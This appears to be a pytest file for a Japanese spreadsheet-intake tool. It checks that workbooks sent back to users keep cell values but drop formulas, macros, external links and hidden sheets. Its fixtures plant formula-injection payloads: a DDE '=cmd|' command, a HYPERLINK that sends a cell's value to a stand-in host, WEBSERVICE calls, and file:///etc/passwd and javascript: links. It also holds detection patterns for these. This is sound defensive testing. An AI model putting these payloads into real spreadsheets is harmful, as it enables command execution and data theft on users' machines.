"""The answer to a workbook holds values and our own marks: whatever else was in it runs, calls or hides no more."""

from __future__ import annotations

import datetime
import io
import re
import string
import zipfile
from typing import Any

import openpyxl
import pytest
from conftest import AS_OF, PORTALS
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from importing import HEADINGS, MOMIJI, SMALL, imported, rezipped, workbook
from machikado.core.i18n import texts
from machikado.intake import xlsx_reader as reader
from machikado.intake.marked_workbook import annotated
from machikado.intake.model import letters
from machikado.outputs.forms.columns import schema_stamp
from machikado.outputs.forms.workbook import template
from machikado.outputs.forms.workbook_sheets import Letter
from machikado.package.xlsx_cells import typed_number
from machikado.portal import open_portal
from office import converted

LIST = texts("ja")["answer_sheet"]
PARTS = {
    "officeDocument", "worksheet", "styles", "theme", "sharedStrings", "core-properties", "extended-properties",
    "comments", "vmlDrawing",
}  # fmt: skip
MORE = {
    "xl/vbaProject.bin": b"x",
    "xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>",
    "xl/connections.xml": b"<connections/>",
    "customXml/item1.xml": b"<x/>",
}


def inert(data: bytes) -> None:
    """Nothing but values, styles, notes and links within the workbook, from its first sheet alone."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    for name, text in parts.items():
        assert not re.search(r"externalLink|vbaProject|connections|customXml|queryTable|activeX|ctrlProp|media", name)
        assert not re.search(r"<(\w+:)?(f[\s/>]|definedName|ddeLink|oleObject|externalReference|control\b)", text), name
        assert 'TargetMode="External"' not in text and 'state="hidden"' not in text and "veryHidden" not in text
        if name.endswith(".rels"):
            assert {kind.rpartition("/")[2] for kind in re.findall(r'Type="([^"]*)"', text)} <= PARTS, text
        if links := re.findall(r"<hyperlink\b[^>]*>", text):
            assert name == "xl/worksheets/sheet1.xml" and all("location=" in link for link in links)
            assert not [link for link in links if "r:id" in link]


def answer(data: bytes, **options: str) -> bytes:
    return annotated(data, imported(data, **options), SMALL[1])


def opened(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def hostile(sheet: Any) -> None:
    """All that openpyxl can put into a workbook beside values."""
    book = sheet.parent
    sheet["E2"], sheet["F2"] = '=HYPERLINK("https://pwned.example/?"&A1,"x")', "=cmd|'/c calc'!A0"
    sheet["L2"], sheet["M2"] = '=WEBSERVICE("https://pwned.example/")', "file:///etc/passwd"
    sheet["A2"].hyperlink, sheet["M2"].hyperlink = "javascript:alert(1)", "file:///etc/passwd"
    sheet["B2"].comment = Comment("theirs", "them")
    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="extra!$A$1")
    rule = DataValidation(type="list", formula1='=WEBSERVICE("https://pwned.example/")')
    sheet.add_data_validation(rule)
    rule.add("G2")
    sheet.conditional_formatting.add("A1:Z9", FormulaRule(formula=['WEBSERVICE("https://pwned.example/")']))
    sheet.print_title_rows, sheet.print_area = "1:1", "A1:K2"
    sheet.auto_filter.ref, sheet.oddFooter.center.text = "A1:K2", "theirs"
    extra = book.create_sheet("extra")
    extra["A1"] = "=cmd|'/c calc'!A0"
    hidden = book.create_sheet("hidden")
    hidden["A1"], hidden.sheet_state = "secret", "veryHidden"
    book.properties.creator = book.properties.title = "theirs"


def test_only_values_and_our_marks_come_back() -> None:
    data = rezipped(workbook(HEADINGS, MOMIJI, change=hostile), lambda name, content: content, MORE)
    made = answer(data)
    inert(made)
    assert not re.search("theirs|Auto_Open|secret", "".join(map(str, _parts(made).values())))
    book = opened(made)
    assert book.sheetnames == [LIST, "実績"]
    sheet = book["実績"]
    texts_ = [sheet[place].value for place in ("E2", "F2", "L2", "M2")]
    assert texts_ == [
        '=HYPERLINK("https://pwned.example/?"&A1,"x")', "=cmd|'/c calc'!A0", '=WEBSERVICE("https://pwned.example/")',
        "file:///etc/passwd",
    ]  # fmt: skip
    assert {sheet[place].data_type for place in ("E2", "F2", "L2", "M2")} == {"s"}
    assert sheet["E2"].quotePrefix and sheet["E2"].number_format == "@"
    left = [row[0] for row in book[LIST].iter_rows(min_row=4, values_only=True)]
    assert left[-2:] == ["extra", "hidden"], "what is not given back is named"


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_a_formulas_stored_value_is_what_comes_back() -> None:
    data = workbook(HEADINGS, [*MOMIJI[:4], "=1+1", *MOMIJI[5:]])
    stored = rezipped(data, lambda name, text: text.replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>")
                      .replace(b"<f>1+1</f><v></v>", b"<f>1+1</f><v>2</v>"))  # fmt: skip
    made = opened(answer(stored))["実績"]["E2"]
    assert (made.value, made.data_type) == (2, "n")


def test_numbers_and_days_read_as_before_in_our_own_formats() -> None:
    day, moment = datetime.date(2015, 4, 1), datetime.datetime(2015, 4, 1, 9, 30)
    values = [
        (day, "ggge年m月d日"), (day, 'yyyy"年"m"月"'), (day, "yyyy"), (moment, "yyyy/m/d h:mm"), (0.05, "0%"),
        (0.1234, "0.0%"), (2020, "000000"), (1234.5, "#,##0.00"), (5, '"9999"'), (True, "General"), (-3, "0;[Red]0"),
        (datetime.time(9, 30), "h:mm"), (datetime.timedelta(hours=30), "[h]:mm"),
        (12345678901234567890, "0"), (1e300, ""),
    ]  # fmt: skip

    def change(sheet: Any) -> None:
        for column, (value, form) in enumerate(values, 12):
            sheet.cell(2, column).value = value
            sheet.cell(2, column).number_format = form or "General"

    data = workbook(HEADINGS, MOMIJI, change=change)
    made = answer(data)
    before, after = (reader.sheets_of("x", each)[0] for each in (data, made))
    told = {sheet.name: [[cell and cell.text for cell in line.cells] for line in sheet.lines] for sheet in after}
    assert told["実績"] == [[cell and cell.text for cell in line.cells] for line in before[0].lines]
    forms = {cell.number_format for cell in opened(made)["実績"][2]}
    assert forms <= {
        "@", "General", "0", "000000", "0.##########%", "yyyy", "yyyy-mm", "yyyy-mm-dd", "yyyy-mm-dd hh:mm", "hh:mm:ss",
        "[h]:mm:ss",
    }  # fmt: skip


@pytest.mark.parametrize(
    ("value", "form", "text"),
    [(0.05, "0%", "5%"), (0.1234, "0.0%", "12.34%"), (2020, "000000", "002020"), (0.5, '0.0"%"', "0.5"),
     (1e-7, "", "0.0000001"), (1234.5, "#,##0", "1234.5")],
)  # fmt: skip
def test_a_number_is_read_as_it_was_typed_not_as_it_is_stored(value: float, form: str, text: str) -> None:
    assert typed_number(value, form) == text


def test_merged_and_hidden_places_stay_where_they_are() -> None:
    def change(sheet: Any) -> None:
        sheet.merge_cells("L1:M1")
        sheet.merge_cells("A4:A5")
        sheet["A4"] = "x"
        sheet.row_dimensions[5].hidden = sheet.column_dimensions["M"].hidden = True

    sheet = opened(answer(workbook(HEADINGS, MOMIJI, change=change)))["実績"]
    assert sorted(map(str, sheet.merged_cells.ranges)) == ["A4:A5", "L1:M1"]
    assert sheet.row_dimensions[5].hidden and sheet.column_dimensions["M"].hidden


@pytest.mark.parametrize(
    "name", ["=cmd|A0", "it's", "'x'", "a" * 40, "what was found", "x[evil.xlsx]y", "a\nb", "!", "#REF!"]
)
def test_a_sheet_may_have_any_name(name: str) -> None:
    spoilt = [*MOMIJI[:6], "おこづかい", *MOMIJI[7:]]
    book = opened(workbook(HEADINGS, spoilt))
    book.active._WorkbookChild__title = name
    file = io.BytesIO()
    book.save(file)
    made = answer(file.getvalue())
    inert(made)
    (other,) = [each for each in opened(made).sheetnames if each != LIST]
    assert opened(made)[other]["G2"].comment
    assert opened(made)[LIST]["A5"].hyperlink.location == "'{}'!G2".format(other.replace("'", "''"))


# ---------------------------------------------------------------- forms of ours


def form(*rows: dict[str, Any]) -> tuple[bytes, str]:
    """The small portal's form, filled in, and its stamp."""
    package = open_portal(PORTALS / "small", AS_OF).package
    table = SMALL[1].tables["adoptions"]
    book = opened(template(table, package.tables, "ja", Letter(portal="x")))
    sheet = book.worksheets[0]
    for number, row in enumerate(rows, 3):
        for cell in sheet[1]:
            sheet.cell(number, cell.column).value = row.get(str(cell.value).removesuffix("（必須）"))
    sheet["A1"].comment = Comment("theirs", "them")
    book["コード"]["A2"] = "=cmd|'/c calc'!A0"
    file = io.BytesIO()
    book.save(file)
    return file.getvalue(), schema_stamp(table, SMALL[1].children(table))


ROW = dict(zip(HEADINGS, MOMIJI, strict=True))


def test_a_form_of_ours_keeps_its_lists_made_anew() -> None:
    data, stamp = form(ROW | {"財源": "おこづかい"})
    found = imported(data, stamp=stamp)
    made = annotated(data, found, SMALL[1])
    inert(made)
    book = opened(made)
    sheet = book["入力"]
    lists = [str(rule.formula1) for rule in sheet.data_validations.dataValidation if rule.type == "list"]
    assert lists and any("コード" in each for each in lists) and "theirs" not in str(_parts(made))
    assert set(book.sheetnames) >= {"入力", "項目", "コード"} and book["コード"]["A2"].data_type == "s"
    assert "cmd|" not in str(book["コード"]["A2"].value), "the lists are the schema's, not the sender's"
    places = [name for rule in lists for name in re.findall(r"'([^']+)'!", rule)]
    assert set(places) <= set(book.sheetnames)
    again = imported(made, stamp=stamp)
    assert (again.records, again.problems) == (found.records, found.problems)


def test_what_goes_back_opens_in_an_office_program(tmp_path: Any) -> None:
    data, stamp = form(ROW | {"財源": "おこづかい"})
    kept = converted(annotated(data, imported(data, stamp=stamp), SMALL[1]), "xlsx", tmp_path)["book.xlsx"]
    assert opened(kept)["入力"]["A1"].value == "区分"
    assert imported(kept, stamp=stamp).records == imported(data, stamp=stamp).records


# ---------------------------------------------------------------- whatever may come

LETTERS = string.ascii_letters + string.digits + "=+-@\t\r\n'\"<>&|!#;:/\\[]{}$ 　あ漢①_x\u202e\u200b😀"
BEGINNINGS = [
    "",
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "'=",
    "=cmd|'/c calc'!A0",
    "javascript:",
    "file:///",
    "_x000D_",
]
TEXTS = st.builds("{}{}".format, st.sampled_from(BEGINNINGS), st.text(LETTERS, max_size=12))
VALUES = st.one_of(
    TEXTS, st.integers(), st.floats(), st.booleans(), st.dates(datetime.date(1900, 1, 1), datetime.date(9999, 12, 31)),
    st.datetimes(datetime.datetime(1900, 1, 1)).map(lambda moment: moment.replace(microsecond=0)), st.none(),
)  # fmt: skip
FORMS = st.sampled_from(["General", "@", "0%", "00000", "yyyy", 'yyyy"年"m"月"', "[$-411]ggge", '"=1+1"', "[Red]0"])
AREAS = st.sampled_from(["A3:B4", "B2:C3", "L1:M2", "A1:B1", "C5:C5"])
NAMES = st.text(LETTERS.replace("\t", "").replace("\r", "").replace("\n", ""), min_size=1, max_size=31)


def spelt(text: Any) -> str:
    """As a program may store it: kinds of line ends are one."""
    return re.sub(r"\r\n?", "\n", str(text))


@given(
    st.lists(st.lists(st.tuples(VALUES, FORMS), max_size=14), max_size=4), st.lists(AREAS, max_size=3), st.booleans(),
    st.lists(NAMES, max_size=2), st.booleans(),
)  # fmt: skip
def test_whatever_is_sent_what_goes_back_is_inert_and_reads_the_same(
    rows: list[list[tuple[Any, str]]], areas: list[str], worse: bool, names: list[str], also: bool
) -> None:
    def change(sheet: Any) -> None:
        for number, row in enumerate(rows, 3):
            for column, (value, number_format) in enumerate(row, 1):
                cell = sheet.cell(number, column)
                if isinstance(value, str):
                    value = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", value)
                if isinstance(value, float) and abs(value) > 1e300:
                    value = 1.5
                cell.value = value if value == value else None
                cell.number_format = number_format
        for name in names:
            sheet.parent.create_sheet(re.sub(r"[\\*?:/\[\]]", "", name) or "x")["A1"] = "=1+1"
        if worse:
            hostile(sheet)
        for area in areas:
            sheet.merge_cells(area)

    data = workbook(HEADINGS, MOMIJI, change=change)
    if also:
        data = rezipped(data, lambda name, content: content, MORE)
    found = imported(data)
    if not found.origins:
        return
    made = annotated(data, found, SMALL[1])
    inert(made)
    assert annotated(data, found, SMALL[1]) == made
    before = {sheet.name: sheet for sheet in reader.sheets_of("x", data)[0]}["実績"]
    after = {sheet.name: sheet for sheet in reader.sheets_of("x", made)[0]}["実績"]
    for old, new in zip(before.lines, after.lines, strict=False):
        assert old.number == new.number
        for column, cell in enumerate(old.cells, 1):
            if cell and f"{letters(column)}{old.number}" not in before.without_value and not cell.merged:
                there = new.cells[column - 1]
                assert there and spelt(there.text) == spelt(cell.text), (column, old.number)


def reader_letters(column: int) -> str:
    from machikado.intake.model import letters

    return letters(column)
